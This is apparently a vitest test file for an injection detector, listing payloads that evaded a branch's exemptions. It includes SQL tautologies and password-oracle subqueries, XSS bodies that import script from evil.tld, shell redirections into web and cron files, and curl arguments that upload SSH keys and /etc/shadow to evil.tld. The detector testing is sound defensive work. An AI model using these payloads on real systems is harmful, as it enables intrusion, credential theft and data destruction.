import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { countWork } from './work-counter.js';

/**
 * Attacks that the form-value exemptions of branch forms9 (at dcf754d) let through or weaken: each
 * still runs (a query that parses and does harm in `... WHERE name = '<v>'`, a script a browser runs,
 * a shell line) and main (f142164) reports each of them. Reviewer rev9.
 */
const d = new InjectionDetector();
const score = (v: string) => d.score(v);

describe('sqli: a comparison "followed by prose" that is a tautology with the application quote closing it (forms9 192772f)', () => {
  // `WHERE name = '' or 'b' > 'a plain sentence'`: valid SQL, true for every row
  it.each([
    "' or 'b' > 'a plain sentence",
    "' or 'b'>'a plain sentence",
    "1' or 'z' >= 'some words here",
    "' or 'zz' <> 'a plain sentence",
    "' or 'zz' != 'a plain sentence",
    "x' or 'a plain sentence' = 'a plain sentence",
  ])('%s', (v) => {
    expect(score(v).rules).toContain('sqli-tautology');
    expect(score(v).score).toBeGreaterThanOrEqual(5);
  });
});

describe('sqli: the sentence after a tautology is cut off by a NUL (forms9 192772f)', () => {
  // a C-string API ends the query at NUL: `WHERE name = '' or 2>1`; main also reports the NUL itself
  it.each(["' or 2>1\u0000 some words", '1 or 2>1\u0000 some words'])('%j', (v) => {
    expect(score(v).score).toBeGreaterThanOrEqual(5);
  });
});

describe('xss: a <script> body that is JavaScript although it holds two words side by side (forms9 62e9158, 2caa211)', () => {
  // `<!--` opens a one-line HTML-like comment in a classic script (ECMAScript Annex B): the words are a comment, the next line runs
  // `x: break x;` is a labelled statement: `break x` is valid, what follows runs
  it.each([
    "<script><!-- a b\nimport('//evil.tld/x.js')",
    "<script><!-- a b\ntop.location='//evil.tld'",
    "<script><!-- a b\nwindow['al'+'ert'](1)",
    "<script>x: break x; import('//evil.tld/x.js')",
    "<script>x: break x; top.location='//evil.tld'",
    '<script>l: continue l; alert(1)',
    '<script><!-- why?\nalert(1)',
  ])('%j', (v) => {
    expect(score(v).rules).toContain('xss-script-tag');
  });
});

describe('cmdi: one letter between bars followed by a redirection is a pipeline, not |w| (forms9 dcf754d)', () => {
  // `x | w | >/var/www/html/index.html`: a command of one redirection truncates the file
  it.each(['x |w|>/var/www/html/index.html', '1 |w|>/etc/cron.d/x', 'name |w|</dev/tcp/evil.tld/80'])('%s', (v) => {
    expect(score(v).rules).toContain('cmdi-chained-command');
  });
});

describe('traversal: an option argument after words is argument injection, not a mention (forms9 2caa211)', () => {
  // passed to `curl <v>`: uploads the key or the password file to evil.tld
  it.each(['evil.tld --upload-file ~/.ssh/id_rsa', 'evil.tld -T ~/.ssh/id_rsa', 'evil.tld -T /etc/passwd', 'evil.tld --data-binary @/etc/shadow'])('%s', (v) => {
    expect(score(v).score).toBeGreaterThanOrEqual(5);
  });
});

describe('sqli (design): a whole statement is valid SQL where the application has a subquery position (forms9 85af36a)', () => {
  // `... WHERE id IN (<v>)` (a list filter): a boolean oracle on the admin's password, one character at a time
  it.each([
    "select id from users where name = 'admin' and password like 'a%'",
    "select user_id from sessions where token like 'a%'",
    "select id from users where name = 'admin' and pass like 'a%'",
    "select id from users where name = 'admin' and pin like '1%'",
    "select id from users where reset_code like 'a%'",
  ])('%s', (v) => {
    expect(score(v).score).toBeGreaterThanOrEqual(5);
  });
});

describe('xss: the script-body look is linear in the number of open tags (forms9 62e9158)', () => {
  // proseScriptBody searches `</script` from every bare `<script>` to the end of the value (indexOf is unbounded; only the body read is capped)
  it.each([
    ['bare tags', (n: number) => '<script>'.repeat(n / 8)],
    ['tags and a word', (n: number) => '<script>a '.repeat(n / 10)],
  ])('%s', (_name, shape) => {
    const det = new InjectionDetector({ maxFieldChars: 1 << 20, maxRecordChars: 1 << 22 });
    const work = (n: number) => {
      const text = shape(n);
      return countWork(() => det.score(text));
    };
    const small = work(8192);
    const large = work(16384);
    expect(large / small, `${small} -> ${large}`).toBeLessThanOrEqual(2.5);
  });
});

describe('variants after the forms9 fixes (forms9 20c77c0, a1fee08 at 98169e8)', () => {
  // MySQL's default collations are accent-insensitive (utf8mb4_0900_ai_ci, utf8mb4_general_ci): 'séntence' = 'sentence'
  it("' or 'a plain séntence' = 'a plain sentence", () => {
    expect(score("' or 'a plain séntence' = 'a plain sentence").score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    // a hashbang comment at the start of a classic script (ES2023), then code
    "<script>#! a b\nimport('//evil.tld/x.js')",
    // a `using` declaration in a block (explicit resource management, shipped in V8): two names side by side that parse
    "<script>{ using x = null; import('//evil.tld/x.js') }",
    "<script>{using x = null; top.location='//evil.tld'}",
  ])('%j', (v) => {
    expect(score(v).rules).toContain('xss-script-tag');
  });
});
